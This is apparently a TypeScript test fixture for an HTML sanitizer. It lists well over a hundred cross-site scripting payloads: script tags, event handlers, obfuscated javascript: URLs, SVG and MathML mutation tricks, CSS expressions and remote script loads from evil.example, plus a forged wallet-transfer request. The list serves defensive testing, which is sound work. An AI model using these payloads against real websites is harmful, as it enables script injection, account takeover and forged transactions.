const RUN = 'window.hacked=1';

/** Each letter as a character reference, `&#106;` or `&#x6A;`, zero-padded to a length. */
const coded = (text: string, radix: 10 | 16, length = 1): string =>
  [...text]
    .map((letter) => letter.charCodeAt(0).toString(radix).padStart(length, '0'))
    .map((digits) => `&#${radix === 16 ? 'x' : ''}${digits};`)
    .join('');

const HANDLERS = (
  'abort activate afterprint afterupdate animationcancel animationend animationiteration animationstart auxclick ' +
  'beforeactivate beforecopy beforecut beforedeactivate beforeeditfocus beforeinput beforematch beforepaste ' +
  'beforeprint beforetoggle beforeunload beforeupdate begin blur bounce cancel canplay canplaythrough cellchange ' +
  'change click close contextmenu contextlost contextrestored controlselect copy cuechange cut dataavailable ' +
  'datasetchanged datasetcomplete dblclick deactivate drag dragdrop dragend dragenter dragleave dragover dragstart ' +
  'drop durationchange emptied end ended error errorupdate filterchange finish focus focusin focusout formdata ' +
  'fullscreenchange gotpointercapture hashchange help input invalid keydown keypress keyup layoutcomplete load ' +
  'loadeddata loadedmetadata loadstart losecapture lostpointercapture mediacomplete mediaerror message ' +
  'messageerror mousedown mouseenter mouseleave mousemove mouseout mouseover mouseup mousewheel move moveend ' +
  'movestart offline online outofsync pagehide pagereveal pageshow pageswap paste pause play playing pointercancel ' +
  'pointerdown pointerenter pointerleave pointermove pointerout pointerover pointerrawupdate pointerup popstate ' +
  'progress propertychange ratechange readystatechange redo repeat reset resize resizeend resizestart resume ' +
  'reverse rowdelete rowenter rowexit rowinserted rowsenter scroll scrollend scrollsnapchange securitypolicyviolation ' +
  'seek seeked seeking select selectionchange selectstart show slotchange stalled start stop storage submit suspend ' +
  'syncrestored timeerror timeupdate toggle touchcancel touchend touchmove touchstart trackchange transitioncancel ' +
  'transitionend transitionrun transitionstart undo unhandledrejection unload urlflip visibilitychange volumechange ' +
  'waiting webkitanimationend wheel'
).split(' ');

/**
 * Ways to get a script past an HTML sanitizer: through tags, attributes, URLs, entities, broken markup,
 * foreign content and what browsers repair by themselves. Each would set `window.hacked`.
 */
export const HOSTILE: readonly string[] = [
  // executable tags
  `<script>${RUN}</script>`,
  `<SCRIPT>${RUN}</SCRIPT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script src="https://evil.example/x.js"></script>`,
  `<script src=//evil.example/x.js>`,
  `<script/x src="data:text/javascript,${RUN}"></script>`,
  `<<script>${RUN};//<</script>`,
  `</textarea><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<template><script>${RUN}</script></template>`,
  // event handlers
  `<img src=x onerror=${RUN}>`,
  `<img src=x onerror="${RUN}" alt=x>`,
  `<img/src="x"/onerror="${RUN}">`,
  `<IMG SRC=x OnErRoR=${RUN}>`,
  `<img """><script>${RUN}</script>">`,
  `<img src="x\` \`<script>${RUN}</script>"\` \`>`,
  `<p onclick="${RUN}">x</p>`,
  `<p\nonmouseover\n=\n"${RUN}">x</p>`,
  `<a href="https://example.com" onfocus="${RUN}" autofocus>x</a>`,
  `<body onload=${RUN}>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<video><source onerror="${RUN}"></video>`,
  `<video poster="javascript:${RUN}"></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}></select>`,
  `<textarea autofocus onfocus=${RUN}></textarea>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<p style="animation-name:x" onanimationstart="${RUN}">x</p>`,
  `<button popovertarget=x onbeforetoggle=${RUN}>x</button>`,
  // URLs
  `<a href="javascript:${RUN}">x</a>`,
  `<a href="JaVaScRiPt:${RUN}">x</a>`,
  `<a href=" javascript:${RUN}">x</a>`,
  `<a href="java\tscript:${RUN}">x</a>`,
  `<a href="java\nscript:${RUN}">x</a>`,
  `<a href="java&#x0A;script:${RUN}">x</a>`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${RUN}">x</a>`,
  `<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A${RUN}">x</a>`,
  `<a href="&#0000106&#0000097vascript:${RUN}">x</a>`,
  `<a href="javascript&colon;${RUN}">x</a>`,
  `<a href="\u0001javascript:${RUN}">x</a>`,
  `<a href="vbscript:msgbox(1)">x</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">x</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5oYWNrZWQ9MTwvc2NyaXB0Pg==">x</a>`,
  `<a href="//evil.example/x">x</a>`,
  `<a href="blob:https://evil.example/x">x</a>`,
  `<a href="feed:javascript:${RUN}">x</a>`,
  `<img src="javascript:${RUN}">`,
  `<img src="data:image/svg+xml,<svg onload=${RUN}>">`,
  `<img dynsrc="javascript:${RUN}" lowsrc="javascript:${RUN}">`,
  `<img srcset="https://evil.example/x 1x" src=x>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<frameset><frame src="javascript:${RUN}"></frameset>`,
  `<object data="javascript:${RUN}"></object>`,
  `<object data="data:text/html;base64,PHNjcmlwdD5oYWNrZWQ9MTwvc2NyaXB0Pg=="></object>`,
  `<embed src="javascript:${RUN}">`,
  `<form action="javascript:${RUN}"><button>x</button></form>`,
  `<button form=x formaction="javascript:${RUN}">x</button>`,
  `<isindex type=image src=1 onerror=${RUN}>`,
  `<base href="javascript:${RUN}//">`,
  `<link rel=stylesheet href="javascript:${RUN}">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<area href="javascript:${RUN}">`,
  `<table background="javascript:${RUN}"><tr><td>x</td></tr></table>`,
  `<bgsound src="javascript:${RUN}">`,
  // styles
  `<style>@import 'https://evil.example/x.css';</style>`,
  `<style>*{background:url("javascript:${RUN}")}</style>`,
  `<p style="background:url(javascript:${RUN})">x</p>`,
  `<p style="width:expression(${RUN})">x</p>`,
  `<p style="behavior:url(x.htc)">x</p>`,
  // foreign content
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x">`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${RUN}</script>"></iframe></foreignObject></svg>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<math><mi xlink:href="javascript:${RUN}">x</mi></math>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<xml><i><b><img src=x onerror=${RUN}></b></i></xml>`,
  // text that is not markup until a browser repairs it
  `<img src=x onerror=${RUN}//`,
  `<p title="><img src=x onerror=${RUN}>">x</p>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<!--[if gte IE 4]><script>${RUN}</script><![endif]-->`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `<?xml version="1.0"?><img src=x onerror=${RUN}>`,
  `<a href='x' title='"><img src=x onerror=${RUN}>'>x</a>`,
  `<img alt="&quot;><img src=x onerror=${RUN}>" src="/files/content/aaaaaaaaaaaaaaaaaaaaaaaaaaa.png">`,
  `<img src="/files/content/aaaaaaaaaaaaaaaaaaaaaaaaaaa.png" onerror=${RUN}>`,
  `<img src="/files/content/aaaaaaaaaaaaaaaaaaaaaaaaaaa.png" width="1 onerror=${RUN}">`,
  `&lt;img src=x onerror=${RUN}&gt;`,
  `<x contenteditable onblur=${RUN} tabindex=1 id=x autofocus>x</x>`,
  `<custom-tag onclick=${RUN}>x</custom-tag>`,
  `\u003cimg src=x onerror=${RUN}\u003e`,
  `<p id="content"><a id=location href="https://example.com">x</a></p>`,
  // further groups from the OWASP cheat sheet on filter evasion, one by one
  `--></title></style></textarea></noscript></xmp></script><svg/onload=${RUN}>`,
  `\\<a onmouseover="${RUN}"\\>x\\</a\\>`,
  `<img src=# onmouseover="${RUN}">`,
  `<img src= onmouseover="${RUN}">`,
  `<img onmouseover="${RUN}">`,
  `<img src=/ onerror="${coded(RUN, 10)}"></img>`,
  `<img src="${coded(`javascript:${RUN}`, 10)}">`,
  `<img src=${coded(`javascript:${RUN}`, 10, 7).replaceAll(';', '')}>`,
  `<a href=${coded(`javascript:${RUN}`, 16).replaceAll(';', '')}>x</a>`,
  `<a href="jav\tascript:${RUN}">x</a>`,
  `<a href="jav&#x09;ascript:${RUN}">x</a>`,
  `<a href="jav&#x0D;ascript:${RUN}">x</a>`,
  `<a href="j\na\nv\na\ns\nc\nr\ni\np\nt\n:${RUN}">x</a>`,
  `<a href="java\0script:${RUN}">x</a>`,
  `<scr\0ipt>${RUN}</scr\0ipt>`,
  `<a href=" &#14;  javascript:${RUN}">x</a>`,
  `<a href="\u00adjavascript:${RUN}">x</a>`,
  `<script/xss src="https://evil.example/x.js"></script>`,
  `<body onload!#$%&()*~+-_.,:;?@[/|\\]^\`=${RUN}>`,
  `<script/src="https://evil.example/x.js"></script>`,
  `<script src=https://evil.example/x.js?< b >`,
  `<img src="\`javascript:${RUN}\`"`,
  `<iframe src=javascript:${RUN} <`,
  `\\";${RUN};//`,
  `<input type="image" src="javascript:${RUN}">`,
  `<body background="javascript:${RUN}">`,
  `<style>li{list-style-image:url("javascript:${RUN}")}</style><ul><li>x</br>`,
  `<img src='vbscript:msgbox(1)'>`,
  `<img src="livescript:${RUN}">`,
  `<img src="mocha:${RUN}">`,
  `Set.constructor\`${RUN}\``,
  `<body onload =${RUN}>`,
  `<br size="&{${RUN}}">`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`,
  `<meta http-equiv="Link" content="<https://evil.example/x.css>; rel=stylesheet">`,
  `<style>body{-moz-binding:url("https://evil.example/x.xml#x")}</style>`,
  `<style>@im\\port'\\ja\\vasc\\ript:${RUN}';</style>`,
  `<img style="x:expr/*x*/ession(${RUN})">`,
  `exp/*<a style='no\\x:nox("*//*");x:ex/*x*//*/*/pression(${RUN})'>`,
  `<style type="text/javascript">${RUN}</style>`,
  `<style>.x{background-image:url("javascript:${RUN}")}</style><a class=x></a>`,
  `<style type="text/css">body{background:url("<javascript:${RUN}>")}</style>`,
  `<xss style="x:expression(${RUN})">`,
  `<xss style="behavior: url(x.htc)">`,
  `¼script¾${RUN}¼/script¾`,
  `<meta http-equiv="refresh" content="0;url=data:text/html;base64,PHNjcmlwdD5oYWNrZWQ9MTwvc2NyaXB0Pg==">`,
  `<meta http-equiv="refresh" content="0; url=https://;url=javascript:${RUN}">`,
  `<iframe src=# onmouseover="${RUN}"></iframe>`,
  `<table><td background="javascript:${RUN}">x</td></table>`,
  `<p style="background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061'\\0029">x</p>`,
  `<p style="background-image: url(\u0001javascript:${RUN})">x</p>`,
  `<p style="width:\nexpression(${RUN})">x</p>`,
  `<object type="text/x-scriptlet" data="https://evil.example/x.html"></object>`,
  `<object classid=clsid:ae24fdae-03c6-11d1-8b76-0080c744f389><param name=url value=javascript:${RUN}></object>`,
  `<embed src="https://evil.example/x.swf" AllowScriptAccess="always"></embed>`,
  `<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImhhY2tlZD0xIi8+" type="image/svg+xml"></embed>`,
  `<applet code="javascript:${RUN}"></applet>`,
  `<layer src="https://evil.example/x.html"></layer>`,
  `<xml id="x"><i><b><img src="javas<!-- -->cript:${RUN}"></b></i></xml><span datasrc="#x" datafld="b" dataformatas="html"></span>`,
  `<xml src="x.xml" id=i></xml><span datasrc=#i datafld=c dataformatas=html></span>`,
  `<?xml:namespace prefix="t" ns="urn:schemas-microsoft-com:time"><?import namespace="t" implementation="#default#time2"><t:set attributeName="innerHTML" to="x<script defer>${RUN}</script>">`,
  `<script src="https://evil.example/x.jpg"></script>`,
  `<!--#exec cmd="/bin/echo '<scr'"--><!--#exec cmd="/bin/echo 'ipt>${RUN}</script>'"-->`,
  `<? echo('<scr'); echo('ipt>${RUN}</script>'); ?>`,
  `<img src="https://canopy.example/api/Wallets/Transfer?Amount=1">`,
  `<meta http-equiv="Set-Cookie" content="a=<script>${RUN}</script>">`,
  `<head><meta http-equiv="content-type" content="text/html; charset=utf-7"></head>+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `<script a=">" src="https://evil.example/x.js"></script>`,
  `<script =">" src="https://evil.example/x.js"></script>`,
  `<script a=">" '' src="https://evil.example/x.js"></script>`,
  `<script "a='>'" src="https://evil.example/x.js"></script>`,
  `<script a=\`>\` src="https://evil.example/x.js"></script>`,
  `<script a=">'>" src="https://evil.example/x.js"></script>`,
  `<script>document.write("<scri");</script>pt src="https://evil.example/x.js"></script>`,
  `<a href="javascript:document.location='https://evil.example/'">x</a>`,
  `<a href="javascript://%0a${RUN}">x</a>`,
  `<a href="javascript:/*--></title></style>*/${RUN}">x</a>`,
  `<img src = x onerror = "javascript: window.onerror = ${RUN}; throw 1">`,
  `"><img src="x:x" onerror="${RUN}">`,
  `"></script>”>’><script>${RUN}</script>`,
  `<isindex x="javascript:" onmouseover="${RUN}">`,
  `<img src=x:${RUN} onerror=eval(src)>`,
  `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${RUN}</x:script>`,
  `<form id=test onforminput=${RUN}><input></form><button form=test onformchange=${RUN}>x</button>`,
  `<math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:${RUN}">x</maction></math>`,
  `<img src="jar:https://evil.example!/x"><a href="jar:https://evil.example!/x">x</a>`,
  // every event handler a browser has ever had
  ...HANDLERS.map((name) => `<p on${name}="${RUN}" tabindex=0>x</p>`),
];

/** Closes whatever a sample left open, so that it cannot swallow the next one. */
const CLOSED =
  `"'>--></script></style></textarea></title></noscript></template></select></svg></math></iframe>` +
  '</object></xmp></applet><p>after it</p>';

/** All samples, spread over this many texts; each sample is followed by the paragraph `after it`. */
export const hostileTexts = (parts: number): string[] =>
  Array.from({ length: parts }, (_, part) =>
    HOSTILE.filter((__, at) => at % parts === part)
      // a NUL character is rejected before anything is read
      .map((sample) => sample.replaceAll('\0', '') + CLOSED)
      .join(''),
  );

/** Number of samples that were processed to their end. */
export const samplesIn = (html: string): number => html.split('<p>after it</p>').length - 1;
